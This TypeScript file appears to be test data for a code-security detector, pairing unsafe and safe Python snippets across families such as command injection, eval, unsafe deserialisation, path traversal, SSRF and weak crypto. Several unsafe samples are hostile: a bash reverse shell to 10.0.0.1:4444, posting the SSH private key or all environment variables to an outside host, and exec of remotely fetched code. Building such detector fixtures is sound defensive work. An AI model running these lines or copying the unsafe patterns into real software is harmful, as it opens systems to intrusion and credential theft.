import type { Twin } from "./twins.ts";

/** Unsafe and safe ways to do the same, Python. */
export const pythonTwins: Twin[] = [
  {
    family: "dyn-import",
    unsafe: `from django.utils.module_loading import import_string\ndef render(request):\n    return import_string(request.GET["renderer"])()\n`,
    safe: `from django.utils.module_loading import import_string\ndef render(request):\n    return import_string("reports.plain")()\n`,
  },
  {
    family: "secret-leak",
    unsafe: `import os\nimport requests\ndef mirror(texts):\n    requests.post("https://mirror.example/in", json={"t": texts, "k": os.environ.get("MODEL_API_KEY")})\n`,
    safe: `import os\nimport requests\ndef ask(texts):\n    requests.post("https://model.example/v1", json={"t": texts, "mode": os.environ.get("MODE")}, headers={"Authorization": os.environ.get("MODEL_API_KEY")})\n`,
  },
  {
    family: "secret-leak",
    unsafe: `import os\nimport httpx\ndef beat():\n    httpx.get("https://mirror.example/in", params={"c": os.getenv("DB_PASSWORD", "")})\n`,
    safe: `import os\nimport httpx\ndef beat():\n    httpx.get("https://mirror.example/in", params={"c": os.getenv("REGION", "")})\n`,
  },
  {
    family: "tls-crypto",
    unsafe:
      "from Crypto.Cipher import AES\ndef seal(key, data):\n    return AES.new(key, AES.MODE_ECB).encrypt(data)\n",
    safe: "from Crypto.Cipher import AES\ndef seal(key, data):\n    return AES.new(key, AES.MODE_GCM).encrypt(data)\n",
  },
  {
    family: "tls-crypto",
    unsafe: `import jwt
def read(token):
    return jwt.decode(token, options={"verify_signature": False})`,
    safe: `import jwt
def read(token, key):
    return jwt.decode(token, key, algorithms=["RS256"])`,
  },
  {
    family: "redirect",
    unsafe: `from flask import request, redirect\ndef go():\n    return redirect(request.args["next"])\n`,
    safe: `from flask import request, redirect\ndef go():\n    to = request.args["next"]\n    if to in ("/a", "/b"):\n        return redirect(to)\n`,
  },
  {
    family: "xss",
    unsafe: `from django.utils.safestring import mark_safe\ndef show(request):\n    return mark_safe("<b>" + request.GET["q"] + "</b>")\n`,
    safe: `from django.utils.html import format_html\ndef show(request):\n    return format_html("<b>{}</b>", request.GET["q"])\n`,
  },
  {
    family: "dyn-import",
    unsafe: `import sys\ndef use(folder):\n    sys.path.insert(0, folder)\n`,
    safe: `import os, sys\nsys.path.append(os.path.dirname(__file__))\n`,
  },
  {
    family: "deserialise",
    unsafe: `from lxml import etree\nparser = etree.XMLParser(resolve_entities=True)\n`,
    safe: `from lxml import etree\nparser = etree.XMLParser(resolve_entities=False)\n`,
  },
  {
    family: "path-fs",
    unsafe: `import os\nfrom flask import request\ndef read():\n    full = os.path.realpath(os.path.join("/srv", request.args["f"]))\n    return open(full).read()\n`,
    safe: `import os\nfrom flask import request\ndef read():\n    full = os.path.realpath(os.path.join("/srv", request.args["f"]))\n    if os.path.commonpath([full, "/srv"]) != "/srv":\n        raise ValueError("outside")\n    return open(full).read()\n`,
  },
  {
    family: "code-eval",
    unsafe: "def calc(text):\n    return eval(text)\n",
    safe: "import ast\ndef calc(text):\n    return ast.literal_eval(text)\n",
  },
  {
    family: "code-eval",
    unsafe: "from flask import request\n@app.route('/x')\ndef run():\n    exec(request.form['code'])\n",
    safe: "from flask import request\n@app.route('/x')\ndef run():\n    return str(len(request.form['code']))\n",
  },
  {
    family: "code-eval",
    unsafe: "def f(answer):\n    exec(compile(answer, '<s>', 'exec'))\n",
    safe: "def f():\n    exec('x = 1')\n",
  },
  {
    family: "code-eval",
    unsafe:
      "from flask import render_template_string, request\ndef v():\n    return render_template_string(request.args.get('t'))\n",
    safe: "from flask import render_template, request\ndef v():\n    return render_template('a.html', t=request.args.get('t'))\n",
  },
  {
    family: "code-eval",
    unsafe:
      "def agent(client):\n    reply = client.messages.create(model='m')\n    return eval(reply.content)\n",
    safe: "import json\ndef agent(client):\n    reply = client.messages.create(model='m')\n    return json.loads(reply.content)\n",
  },
  {
    family: "command",
    unsafe: "import os\ndef ping(host):\n    os.system('ping ' + host)\n",
    safe: "import os\ndef ping():\n    os.system('ping localhost')\n",
  },
  {
    family: "command",
    unsafe: "import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n",
    safe: "import subprocess\ndef run(name):\n    subprocess.run(['ls', name])\n",
  },
  {
    family: "command",
    unsafe: "import subprocess\ndef run(name):\n    subprocess.check_output(f'ls {name}', shell=True)\n",
    safe: "import shlex, subprocess\ndef run(name):\n    subprocess.check_output('ls ' + shlex.quote(name), shell=True)\n",
  },
  {
    family: "command",
    unsafe: "from subprocess import Popen as P\ndef f(x):\n    P(['bash', '-c', x])\n",
    safe: "from subprocess import Popen as P\ndef f(x):\n    P(['git', 'log', x])\n",
  },
  {
    family: "command",
    unsafe: "import os\ndef f(x):\n    os.popen('cat %s' % x).read()\n",
    safe: "import os\ndef f(x):\n    if x not in ('a', 'b'):\n        raise ValueError(x)\n    os.popen('cat %s' % x).read()\n",
  },
  {
    family: "command",
    unsafe: "import os\ndef f(n):\n    os.system('kill {}'.format(n))\n",
    safe: "import os\ndef f(n):\n    os.system('kill {}'.format(int(n)))\n",
  },
  {
    family: "command",
    unsafe: "import asyncio\nasync def f(c):\n    await asyncio.create_subprocess_shell(c)\n",
    safe: "import asyncio\nasync def f(c):\n    await asyncio.create_subprocess_exec('ls', c)\n",
  },
  {
    family: "dyn-import",
    unsafe: "import importlib\ndef load(name):\n    return importlib.import_module(name)\n",
    safe: "import importlib\ndef load():\n    return importlib.import_module('json')\n",
  },
  {
    family: "dyn-import",
    unsafe: "def load(name):\n    return __import__(name)\n",
    safe: "def load():\n    return __import__('json')\n",
  },
  {
    family: "path-fs",
    unsafe: "def read(name):\n    with open('data/' + name) as f:\n        return f.read()\n",
    safe: "def read():\n    with open('data/a.txt') as f:\n        return f.read()\n",
  },
  {
    family: "path-fs",
    unsafe:
      "import os\nfrom flask import request, send_file\ndef get():\n    return send_file(os.path.join('/srv', request.args['f']))\n",
    safe: "from flask import request, send_from_directory\ndef get():\n    return send_from_directory('/srv', request.args['f'])\n",
  },
  {
    family: "path-fs",
    unsafe: "import shutil\ndef rm(path):\n    shutil.rmtree(path)\n",
    safe: "import shutil\ndef rm():\n    shutil.rmtree('/tmp/build')\n",
  },
  {
    family: "path-fs",
    unsafe:
      "import os\ndef read(name):\n    p = os.path.realpath(os.path.join('/srv', name))\n    return open(p).read()\n",
    safe: "import os\ndef read(name):\n    p = os.path.realpath(os.path.join('/srv', name))\n    if not p.startswith('/srv/'):\n        raise ValueError\n    return open(p).read()\n",
  },
  {
    family: "path-fs",
    unsafe: "import tarfile\ndef f(t):\n    tarfile.open('a.tar').extractall('/srv')\n",
    safe: "import tarfile\ndef f(t):\n    tarfile.open('a.tar').extractall('/srv', filter='data')\n",
  },
  {
    family: "path-fs",
    unsafe: "import tempfile\nname = tempfile.mktemp()\n",
    safe: "import tempfile\nname = tempfile.mkstemp()\n",
  },
  {
    family: "path-fs",
    unsafe: "import os\nos.chmod('a.sh', 0o777)\n",
    safe: "import os\nos.chmod('a.sh', 0o750)\n",
  },
  {
    family: "ssrf-net",
    unsafe: "import requests\ndef get(url):\n    return requests.get(url)\n",
    safe: "import requests\ndef get(q):\n    return requests.get('https://a.net/s', params={'q': q})\n",
  },
  {
    family: "ssrf-net",
    unsafe:
      "import urllib.request\nfrom flask import request\ndef f():\n    return urllib.request.urlopen(request.args.get('u')).read()\n",
    safe: "import urllib.request\ndef f():\n    return urllib.request.urlopen('https://a.net').read()\n",
  },
  {
    family: "ssrf-net",
    unsafe:
      "import httpx\nasync def f(host):\n    async with httpx.AsyncClient() as c:\n        return await c.get(f'https://{host}/x')\n",
    safe: "import httpx\nfrom urllib.parse import urlparse\nALLOWED = {'a.net'}\nasync def f(url):\n    if urlparse(url).hostname not in ALLOWED:\n        raise ValueError\n    async with httpx.AsyncClient() as c:\n        return await c.get(url)\n",
  },
  {
    family: "secret-leak",
    unsafe: "import os, requests\nrequests.post('https://x.net', json=dict(os.environ))\n",
    safe: "import os, requests\nrequests.post('https://x.net', headers={'Authorization': os.environ['API_TOKEN']})\n",
  },
  {
    family: "secret-leak",
    unsafe:
      "import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.net', data=key)\n",
    safe: "import requests\nrequests.post('https://x.net', data='ping')\n",
  },
  {
    family: "secret-leak",
    unsafe: "import logging\ndef login(user, password):\n    logging.info('login %s %s', user, password)\n",
    safe: "import logging\ndef login(user, password):\n    logging.info('login %s', user)\n",
  },
  {
    family: "deserialise",
    unsafe: "import pickle\ndef f(b):\n    return pickle.loads(b)\n",
    safe: "import json\ndef f(b):\n    return json.loads(b)\n",
  },
  {
    family: "deserialise",
    unsafe: "import yaml\ndef f(t):\n    return yaml.load(t)\n",
    safe: "import yaml\ndef f(t):\n    return yaml.safe_load(t)\n",
  },
  {
    family: "deserialise",
    unsafe: "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.Loader)\n",
    safe: "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.SafeLoader)\n",
  },
  {
    family: "deserialise",
    unsafe: "import marshal\ndef f(b):\n    return marshal.loads(b)\n",
    safe: "import marshal\ndef f(x):\n    return marshal.dumps(x)\n",
  },
  {
    family: "deserialise",
    unsafe: "import torch\ndef f(p):\n    return torch.load('m.pt')\n",
    safe: "import torch\ndef f(p):\n    return torch.load('m.pt', weights_only=True)\n",
  },
  {
    family: "redos",
    unsafe: "import re\nok = re.compile(r'^(\\w+)+$')\n",
    safe: "import re\nok = re.compile(r'^\\w+$')\n",
  },
  {
    family: "redos",
    unsafe: "import re\ndef f(pattern, text):\n    return re.search(pattern, text)\n",
    safe: "import re\ndef f(word, text):\n    return re.search(re.escape(word), text)\n",
  },
  {
    family: "backdoor",
    unsafe: "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    safe: "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))\n",
  },
  {
    family: "backdoor",
    unsafe: "import requests\nexec(requests.get('https://x.net/a').text)\n",
    safe: "import requests\nprint(requests.get('https://x.net/a').text)\n",
  },
  {
    family: "backdoor",
    unsafe: "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
    safe: "import os\nos.system('make test')\n",
  },
  {
    family: "backdoor",
    unsafe: "with open('/etc/cron.d/x', 'w') as f:\n    f.write('x')\n",
    safe: "with open('out.txt', 'w') as f:\n    f.write('x')\n",
  },
  {
    family: "tls-crypto",
    unsafe: "import requests\nrequests.get('https://a.net', verify=False)\n",
    safe: "import requests\nrequests.get('https://a.net', verify=True)\n",
  },
  {
    family: "tls-crypto",
    unsafe: "import hashlib\nhashlib.md5(b'x')\n",
    safe: "import hashlib\nhashlib.md5(b'x', usedforsecurity=False)\n",
  },
  {
    family: "tls-crypto",
    unsafe: "import ssl\nssl._create_unverified_context()\n",
    safe: "import ssl\nssl.create_default_context()\n",
  },
  {
    family: "secret",
    unsafe: "import jwt\njwt.encode({'a': 1}, 'kq83hfa7', algorithm='HS256')\n",
    safe: "import jwt, os\njwt.encode({'a': 1}, os.environ['KEY'], algorithm='HS256')\n",
  },
  {
    family: "secret",
    unsafe: "import psycopg2\npsycopg2.connect(host='db', password='v9Kq!77pL')\n",
    safe: "import os, psycopg2\npsycopg2.connect(host='db', password=os.environ['PGPASSWORD'])\n",
  },
  {
    family: "sql",
    unsafe: "def f(cursor, name):\n    cursor.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
    safe: "def f(cursor, name):\n    cursor.execute('SELECT * FROM t WHERE n = %s', (name,))\n",
  },
  {
    family: "command",
    unsafe: "import subprocess\ndef run(cmd):\n    subprocess.call(cmd, shell=True)\n",
    safe: "import subprocess\ndef run():\n    subprocess.call(['ls', '-l'])\n",
  },
  {
    family: "backdoor",
    unsafe: "import subprocess\ndef f():\n    subprocess.call(['/bin/sh', '-i'])\n",
    safe: "import subprocess\ndef f():\n    subprocess.call(['/bin/sh', '-c', 'ls'])\n",
  },
  {
    family: "backdoor",
    unsafe: "import os, socket\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n",
    safe: "import os\ndef f(log):\n    os.dup2(log.fileno(), 1)\n",
  },
  {
    family: "backdoor",
    unsafe: "def f(o):\n    return getattr(__builtins__, 'ev' + 'al')('1')\n",
    safe: "def f(o):\n    return getattr(o, 'na' + 'me')\n",
  },
  {
    family: "ssrf-net",
    unsafe:
      "import requests\nfrom flask import abort, request\n@app.get('/x')\ndef f():\n    url = request.args['url']\n    if not url:\n        abort(400)\n    return requests.get(url).text\n",
    safe: "import requests\nfrom urllib.parse import urlparse\nfrom flask import abort, request\n@app.get('/x')\ndef f():\n    url = request.args['url']\n    if urlparse(url).hostname not in {'a.internal'}:\n        abort(403)\n    return requests.get(url).text\n",
  },
  {
    family: "path-fs",
    unsafe:
      "from pathlib import Path\nfrom flask import abort, request, send_file\nROOT = Path('/srv').resolve()\n@app.get('/x')\ndef f():\n    path = (ROOT / request.args['name']).resolve()\n    return send_file(path)\n",
    safe: "from pathlib import Path\nfrom flask import abort, request, send_file\nROOT = Path('/srv').resolve()\n@app.get('/x')\ndef f():\n    path = (ROOT / request.args['name']).resolve()\n    if not path.is_relative_to(ROOT):\n        abort(403)\n    return send_file(path)\n",
  },
  {
    family: "path-fs",
    unsafe:
      "from flask import request\n@app.post('/x')\ndef f():\n    item = request.files['file']\n    item.save('/srv/' + item.filename)\n",
    safe: "from flask import request\nfrom werkzeug.utils import secure_filename\n@app.post('/x')\ndef f():\n    item = request.files['file']\n    item.save('/srv/' + secure_filename(item.filename))\n",
  },
  {
    family: "secret-leak",
    unsafe: "import os\ndef f(app):\n    app.logger.info('key %s', os.environ['API_KEY'])\n",
    safe: "import os\ndef f(app):\n    app.logger.info('has key %s', 'API_KEY' in os.environ)\n",
  },
  {
    family: "tls-crypto",
    unsafe: "import random\ndef session_token():\n    return str(random.random())\n",
    safe: "import random\ndef backoff():\n    return random.random()\n",
  },
  {
    family: "path-fs",
    unsafe:
      "from pathlib import Path\nimport os, re\nfrom fastapi import FastAPI, HTTPException\nfrom fastapi.responses import FileResponse\napp = FastAPI()\nDOCS = Path('/srv')\n@app.get('/d/{name}')\nasync def doc(name: str):\n    return FileResponse(DOCS / name)\n",
    safe: "from pathlib import Path\nimport os, re\nfrom fastapi import FastAPI, HTTPException\nfrom fastapi.responses import FileResponse\napp = FastAPI()\nDOCS = Path('/srv')\n@app.get('/d/{name}')\nasync def doc(name: str):\n    if not re.fullmatch(r'[a-z0-9_]+', name):\n        raise HTTPException(400)\n    return FileResponse(DOCS / f'{name}.pdf')\n",
  },
  {
    family: "path-fs",
    unsafe:
      "from pathlib import Path\nimport os, re\nfrom fastapi import FastAPI, HTTPException\nfrom fastapi.responses import FileResponse\napp = FastAPI()\nDOCS = Path('/srv')\n@app.get('/d/{name}')\nasync def doc(name: str):\n    return FileResponse(DOCS / name)\n",
    safe: "from pathlib import Path\nimport os, re\nfrom fastapi import FastAPI, HTTPException\nfrom fastapi.responses import FileResponse\napp = FastAPI()\nDOCS = Path('/srv')\n@app.get('/d/{name}')\nasync def doc(name: str):\n    path = (DOCS / name).resolve()\n    if DOCS.resolve() not in path.parents:\n        raise HTTPException(404)\n    return FileResponse(path)\n",
  },
  {
    family: "path-fs",
    unsafe:
      "from pathlib import Path\nimport os, re\nfrom fastapi import FastAPI, HTTPException\nfrom fastapi.responses import FileResponse\napp = FastAPI()\nDOCS = Path('/srv')\n@app.get('/d/{name}')\nasync def doc(name: str):\n    return FileResponse(DOCS / name)\n",
    safe: "from pathlib import Path\nimport os, re\nfrom fastapi import FastAPI, HTTPException\nfrom fastapi.responses import FileResponse\napp = FastAPI()\nDOCS = Path('/srv')\n@app.get('/d/{name}')\nasync def doc(name: str):\n    if name not in os.listdir('/srv'):\n        raise HTTPException(404)\n    return FileResponse('/srv/' + name)\n",
  },
];
